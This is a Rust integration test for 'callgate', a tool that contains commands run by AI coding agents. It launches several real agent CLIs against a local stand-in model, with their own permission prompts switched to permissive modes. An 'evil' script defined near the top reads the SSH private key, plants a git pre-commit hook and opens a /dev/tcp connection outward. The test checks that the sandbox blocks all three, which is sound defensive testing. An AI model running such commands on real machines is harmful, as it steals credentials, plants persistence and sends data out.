//! Real agents in front of a stand-in model: what callgate promises about contained calls, seen by the agents themselves.
//!
//! The agents come from npm by their names, into a directory below `target`. Their homes and projects are new for each run, callgate
//! is installed with `callgate install`, and the model is `agents/model.mjs`, on this machine.

use std::fs;
use std::io::{BufRead as _, BufReader};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::step::{Failure, cargo, run, target};

/// An agent: its name in callgate, its package, and how it is started.
struct Agent {
    name: &'static str,
    package: &'static str,
    arguments: &'static [&'static str],
    /// Variables, with `URL` for the model's address.
    variables: &'static [(&'static str, &'static str)],
    /// A settings file below the home directory, with `URL` and `PROJECT`.
    settings: Option<(&'static str, &'static str)>,
}

const AGENTS: &[Agent] = &[
    Agent {
        name: "claude",
        package: "@anthropic-ai/claude-code",
        arguments: &["-p", PROMPT, "--model", "claude-sonnet-4-5"],
        variables: &[
            ("ANTHROPIC_BASE_URL", "URL"),
            ("ANTHROPIC_API_KEY", "none"),
            ("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "1"),
            ("DISABLE_AUTOUPDATER", "1"),
        ],
        settings: None,
    },
    Agent {
        name: "codex",
        package: "@openai/codex",
        // Codex's own sandbox surrounds commands in its other modes, and callgate refuses and says so.
        arguments: &["exec", "--skip-git-repo-check", "-s", "danger-full-access", PROMPT],
        variables: &[("STAND_IN_KEY", "none")],
        settings: Some((
            ".codex/config.toml",
            "model = \"gpt-5.5\"\nmodel_provider = \"stand-in\"\ncheck_for_update_on_startup = false\n\
             [analytics]\nenabled = false\n\
             [model_providers.stand-in]\nname = \"stand-in\"\nbase_url = \"URL/v1\"\nwire_api = \"responses\"\nenv_key = \"STAND_IN_KEY\"\n\
             [projects.\"PROJECT\"]\ntrust_level = \"trusted\"\n",
        )),
    },
    Agent {
        name: "gemini",
        package: "@google/gemini-cli",
        arguments: &["-p", PROMPT, "-m", "gemini-2.5-pro", "--skip-trust", "--approval-mode", "yolo"],
        variables: &[("GEMINI_API_KEY", "none"), ("GOOGLE_GEMINI_BASE_URL", "URL")],
        settings: Some((
            ".gemini/settings.json",
            r#"{"security": {"auth": {"selectedType": "gemini-api-key"}}, "general": {"enableAutoUpdate": false},
  "privacy": {"usageStatisticsEnabled": false}}
"#,
        )),
    },
    Agent {
        name: "copilot",
        package: "@github/copilot",
        arguments: &["-p", PROMPT, "--no-auto-update", "--allow-all-tools"],
        variables: &[
            ("COPILOT_OFFLINE", "true"),
            ("COPILOT_PROVIDER_BASE_URL", "URL/v1"),
            ("COPILOT_PROVIDER_API_KEY", "none"),
            ("COPILOT_MODEL", "stand-in"),
        ],
        settings: None,
    },
];

const PROMPT: &str = "Please run the scripted step.";
/// A version of Node that all of them run on.
const NODE: &str = "node@22";
/// How long an agent may take, in seconds.
const PATIENCE: &str = "180";
const KEY: &str = "the private key of the stage";

/// The program of the project that tries what a contained call may not do; `PORT` is where somebody listens outside.
const EVIL: &str =
    "cat ~/.ssh/id_rsa\necho x > .git/hooks/pre-commit\nbash -c 'echo hello > /dev/tcp/127.0.0.1/PORT'\necho tried\n";

/// Drives each agent twice.
pub fn drive() -> Result<(), Failure> {
    run("callgate for the agents", &mut cargo(&["build", "-p", "callgate-cli"]))?;
    let target = target()?;
    let (program, packages) = (target.join("debug/callgate"), target.join("agents/packages"));
    package(&packages, "node", NODE)?;
    let mut failures = Vec::new();
    for agent in AGENTS {
        package(&packages, agent.name, agent.package)?;
        for (script, check) in [("test", tests_run as Check), ("evil", nothing_escapes)] {
            let stage = Stage::new(&target, agent, &program, script)?;
            let told = stage.run(agent, &packages)?;
            match check(&stage, &told) {
                Ok(()) => eprintln!("── {} npm run {script}: as promised", agent.name),
                Err(why) => {
                    failures.push(format!("{} npm run {script}: {why}; the model was told: {told}", agent.name))
                }
            }
        }
    }
    if failures.is_empty() { Ok(()) } else { Err(Failure::new(failures.join("\n"))) }
}

type Check = fn(&Stage, &str) -> Result<(), String>;

/// The tests ran without a question, contained.
fn tests_run(stage: &Stage, told: &str) -> Result<(), String> {
    let log = stage.log()?;
    ensure(told.contains("3 tests passed"), "the output did not come back")?;
    ensure(stage.project.join("result.txt").exists(), "the test wrote nothing")?;
    ensure(log.contains(r#""decision":"contain""#) && log.contains(r#""kind":"finished""#), "it was not contained")?;
    ensure(!log.contains(r#""kind":"approval"#), "somebody was asked")
}

/// What the project's program tried did not succeed, and the agent knows why.
fn nothing_escapes(stage: &Stage, told: &str) -> Result<(), String> {
    ensure(told.contains("tried"), "it did not run")?;
    ensure(!told.contains(KEY), "it read the key")?;
    ensure(!stage.project.join(".git/hooks/pre-commit").exists(), "it wrote a git hook")?;
    ensure(stage.outside.accept().is_err(), "it connected to this machine")?;
    ensure(told.contains("held back: write") && told.contains("id_rsa is hidden"), "the agent was not told why")
}

fn ensure(holds: bool, otherwise: &str) -> Result<(), String> {
    if holds { Ok(()) } else { Err(otherwise.to_owned()) }
}

/// Installs a package, unless it is there.
fn package(packages: &Path, name: &str, package: &str) -> Result<(), Failure> {
    let directory = packages.join(name);
    if directory.join("node_modules/.bin").exists() {
        return Ok(());
    }
    make(&directory.join("package.json"), "{\"private\": true}\n")?;
    let mut npm = Command::new("npm");
    npm.args(["install", "--no-audit", "--no-fund", "--loglevel=error", package]).current_dir(&directory);
    run(&format!("npm install {package}"), &mut npm)
}

/// Writes a file with the directories above it.
fn make(path: &Path, text: &str) -> Result<(), Failure> {
    let parent = path.parent().unwrap_or(path);
    let written = fs::create_dir_all(parent).and_then(|()| fs::write(path, text));
    written.map_err(|error| Failure::new(format!("cannot write {}: {error}", path.display())))
}

/// A home, a project, a model, and somebody who listens outside.
struct Stage {
    home: PathBuf,
    project: PathBuf,
    program: PathBuf,
    result: PathBuf,
    outside: TcpListener,
    model: Child,
    url: String,
}

impl Drop for Stage {
    fn drop(&mut self) {
        let _ = self.model.kill();
        let _ = self.model.wait();
    }
}

impl Stage {
    fn new(target: &Path, agent: &Agent, program: &Path, script: &str) -> Result<Self, Failure> {
        let failed =
            |error: std::io::Error| Failure::new(format!("cannot prepare the stage for {}: {error}", agent.name));
        let directory = target.join(format!("agents/{}-{script}", agent.name));
        let _ = fs::remove_dir_all(&directory);
        let (home, project) = (directory.join("home"), directory.join("project"));
        let outside = TcpListener::bind("127.0.0.1:0").map_err(failed)?;
        outside.set_nonblocking(true).map_err(failed)?;
        let port = outside.local_addr().map_err(failed)?.port().to_string();
        let scripts =
            r#"{"name": "sums", "version": "1.0.0", "scripts": {"test": "sh test.sh", "evil": "bash evil.sh"}}"#;
        make(&project.join("package.json"), scripts)?;
        make(&project.join("test.sh"), "echo 3 tests passed\necho ran > result.txt\n")?;
        make(&project.join("evil.sh"), &EVIL.replace("PORT", &port))?;
        make(&project.join(".git/hooks/sample"), "")?;
        make(&project.join(".git/HEAD"), "ref: refs/heads/main\n")?;
        make(&home.join(".ssh/id_rsa"), KEY)?;
        let result = directory.join("result");
        let source = concat!(env!("CARGO_MANIFEST_DIR"), "/agents/model.mjs");
        let mut model = Command::new("node")
            .arg(source)
            .arg(format!("npm run {script}"))
            .arg(&result)
            .stdout(Stdio::piped())
            .spawn()
            .map_err(failed)?;
        let mut line = String::new();
        if let Some(stdout) = model.stdout.take() {
            BufReader::new(stdout).read_line(&mut line).map_err(failed)?;
        }
        let url = format!("http://127.0.0.1:{}", line.trim());
        if let Some((name, text)) = agent.settings {
            make(&home.join(name), &text.replace("URL", &url).replace("PROJECT", &project.to_string_lossy()))?;
        }
        let stage = Stage { home, project, program: program.to_owned(), result, outside, model, url };
        let mut install = stage.command(program, &[]);
        install.args(["install", agent.name, "--trust"]).stdout(Stdio::null());
        run(&format!("callgate install {}", agent.name), &mut install)?;
        Ok(stage)
    }

    /// A command in the project with an environment of its own.
    fn command(&self, program: &Path, paths: &[PathBuf]) -> Command {
        let mut command = Command::new(program);
        let usual = std::env::var_os("PATH").unwrap_or_default();
        let path = std::env::join_paths(paths.iter().cloned().chain(std::env::split_paths(&usual)));
        command.current_dir(&self.project).env_clear().env("HOME", &self.home).env("PATH", path.unwrap_or(usual));
        command.env("SHELL", "/bin/bash").env("NO_COLOR", "1").stdin(Stdio::null());
        command
    }

    /// Runs the agent, and returns what its model was told about the command.
    fn run(&self, agent: &Agent, packages: &Path) -> Result<String, Failure> {
        let binaries = |name: &str| packages.join(name).join("node_modules/.bin");
        let mut command = self.command(Path::new("timeout"), &[binaries(agent.name), binaries("node")]);
        command.args(["--kill-after=5", PATIENCE]).arg(binaries(agent.name).join(agent.name)).args(agent.arguments);
        command.envs(agent.variables.iter().map(|(name, value)| (name, value.replace("URL", &self.url))));
        let output = command.output().map_err(|error| Failure::new(format!("{}: {error}", agent.name)))?;
        fs::read_to_string(&self.result).map_err(|_| {
            let said = [output.stdout, output.stderr].concat();
            Failure::new(format!("{} never ran the command: {}", agent.name, String::from_utf8_lossy(&said)))
        })
    }

    fn log(&self) -> Result<String, String> {
        let mut tail = self.command(&self.program, &[]);
        let output = tail.args(["audit", "tail", "-n", "100", "--json"]).output().map_err(|error| error.to_string())?;
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    }
}
